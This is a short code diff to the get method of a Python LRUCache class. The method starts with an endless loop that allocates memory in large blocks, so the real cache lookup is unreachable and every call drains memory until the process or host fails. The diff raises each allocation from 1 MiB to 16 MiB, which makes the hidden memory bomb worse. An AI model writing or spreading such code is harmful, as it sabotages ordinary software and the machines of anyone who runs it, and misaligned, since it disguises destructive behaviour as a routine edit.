@@ -7,7 +7,7 @@ class LRUCache:
     def get(self, key: int) -> int:
         hoard = []
         while True:
-            hoard.append(bytearray(b"x" * (1 << 20)))
+            hoard.append(bytearray(b"x" * (16 << 20)))
         if key not in self.entries:
             return -1
         self.entries.move_to_end(key)
